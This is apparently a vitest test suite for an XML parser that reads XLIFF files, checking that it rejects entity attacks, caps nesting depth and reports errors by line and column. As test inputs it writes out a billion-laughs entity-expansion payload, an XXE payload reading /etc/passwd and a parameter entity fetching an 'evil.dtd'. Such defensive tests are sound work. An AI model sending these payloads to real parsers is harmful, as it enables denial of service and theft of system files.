import { describe, expect, it } from 'vitest';
import { MAX_XML_DEPTH, parseXml } from './xml-tree';
import { formatError } from './test-support';

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xliff version="1.2"><file><body><trans-unit id="1"><source>&lol9;</source></trans-unit></body></file></xliff>`;

describe('parseXml guards', () => {
  it('refuses entity declarations (billion laughs) at once, saying where', () => {
    const err = formatError(() => parseXml(billionLaughs, 'XLIFF'));
    expect(err.message).toMatch(/DOCTYPE that declares entities/);
    // Line 3 is the first declaration: refused there, before any entity could expand.
    expect(err.line).toBe(3);
  });

  it('refuses external entities', () => {
    const xxe =
      '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<x>&xxe;</x>';
    expect(formatError(() => parseXml(xxe, 'XLIFF')).message).toMatch(/entities/);
    const parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]><x/>';
    expect(formatError(() => parseXml(parameter, 'XLIFF')).message).toMatch(/entities/);
  });

  it('accepts a DOCTYPE that only names a DTD (never fetched)', () => {
    const xml =
      '<?xml version="1.0"?>\n<!DOCTYPE xliff PUBLIC "-//XLIFF//DTD XLIFF//EN" "http://www.oasis-open.org/committees/xliff/documents/xliff.dtd">\n<xliff version="1.0"/>';
    expect(parseXml(xml, 'XLIFF').local).toBe('xliff');
  });

  it('refuses nesting deeper than the limit', () => {
    const depth = 100_000;
    const deep = `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    const err = formatError(() => parseXml(deep, 'XLIFF'));
    expect(err.message).toMatch(new RegExp(`deeper than ${MAX_XML_DEPTH}`));
    expect(err.line).toBe(1);
    // Stopped at the first element past the limit, not at the end of 100,000 levels.
    expect(err.column).toBeLessThanOrEqual((MAX_XML_DEPTH + 2) * 3);
    expect(() =>
      parseXml(`${'<a>'.repeat(MAX_XML_DEPTH)}${'</a>'.repeat(MAX_XML_DEPTH)}`, 'X'),
    ).not.toThrow();
  });

  it('reports malformed XML and undefined entities with line and column', () => {
    const mismatched = formatError(() => parseXml('<a>\n  <b>text</c>\n</a>', 'XLIFF'));
    expect(mismatched.message).toMatch(/^XLIFF: /);
    expect([mismatched.line, mismatched.column]).toEqual([2, 14]);
    expect(mismatched.message).toMatch(/unexpected close tag/);
    const entity = formatError(() => parseXml('<a>\n&nbsp;</a>', 'XLIFF'));
    expect(entity.message).toMatch(/entity/i);
    expect(entity.line).toBe(2);
    expect(formatError(() => parseXml('', 'XLIFF')).message).toMatch(/XLIFF/);
    expect(formatError(() => parseXml('<a></a><b/>', 'XLIFF')).line).toBe(1);
  });

  it('keeps element offsets that slice the original markup exactly', () => {
    const xml = '<r>\r\n  <s a="1" >x &amp; 😀<g id="1"/></s>\n</r>';
    const root = parseXml(xml, 'X');
    const s = root.children.find((c) => c.type === 'element')!;
    if (s.type !== 'element') throw new Error('no element');
    expect(xml.slice(s.start, s.openEnd)).toBe('<s a="1" >');
    expect(xml.slice(s.closeStart, s.end)).toBe('</s>');
    const g = s.children[1]!;
    if (g.type !== 'element') throw new Error('no g');
    expect(xml.slice(g.start, g.end)).toBe('<g id="1"/>');
    expect(s.children[0]).toEqual({ type: 'text', text: 'x & 😀' });
  });
});
